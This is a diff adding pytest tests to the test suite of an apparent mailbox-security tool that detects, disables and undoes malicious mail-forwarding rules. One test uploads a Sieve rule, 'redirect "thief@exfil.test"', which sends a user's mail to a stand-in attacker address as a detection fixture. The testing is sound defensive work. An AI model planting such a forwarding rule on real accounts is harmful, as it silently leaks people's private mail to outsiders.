@@ -595,3 +595,42 @@ def test_undo_returns_a_copy_to_the_folder_it_was_in(lab, monkeypatch):
     )
     assert back.status is OutcomeStatus.DONE
     assert copies_by_folder(lab, user, f"<{message_id}>") == {"Archive": 1}
+
+
+def test_a_forward_alerts_when_its_script_becomes_active_and_undo_keeps_later_edits(
+    lab, heron_for
+):
+    heron = heron_for("forward2")
+    (user,) = addresses("forward2")
+    sieve = SieveClient("127.0.0.1", lab.dovecot.sieve_port)
+    assert sieve.connect(user, PASSWORD, starttls=False, authmech="PLAIN")
+    assert sieve.putscript("later", 'redirect "thief@exfil.test";\n')
+    heron.poll()
+    assert heron.scan_mailboxes().events == 0  # not active: nothing leaves yet
+    assert sieve.setactive("later")
+    assert heron.scan_mailboxes().events == 1
+    touched = heron.process()
+    (action,) = actions_of(heron, touched[0], "disable_forwarding")
+    assert heron.approve(action.id, by="approver").status == "completed"
+
+    edited = 'require ["fileinto"];\nfileinto "Junk";\n'
+    assert sieve.putscript("later", edited)  # the owner rewrote it since
+    undone = heron.undo(action.id, by="approver")
+    assert undone.status == "completed"  # the undo failed, and says why
+    assert (
+        "changed after heron turned its forwarding off"
+        in (undone.result["undo"][0]["detail"])
+    )
+    assert sieve.getscript("later").strip() == edited.strip()
+
+
+def test_a_folder_heron_may_not_read_does_not_stop_the_poll(lab, heron_for):
+    heron = heron_for("sealed")
+    (user,) = addresses("sealed")
+    with user_imap(lab, user) as client:
+        client.create_folder("0sealed")
+        client.setacl("0sealed", user, "lka")  # the owner takes away its own read
+    lab.dovecot.deliver(phish("sealed1", user), SENDER, [user])
+    polled = heron.poll()
+    assert polled.copies == 1
+    assert any("0sealed" in e and "cannot be read" in e for e in polled.errors)
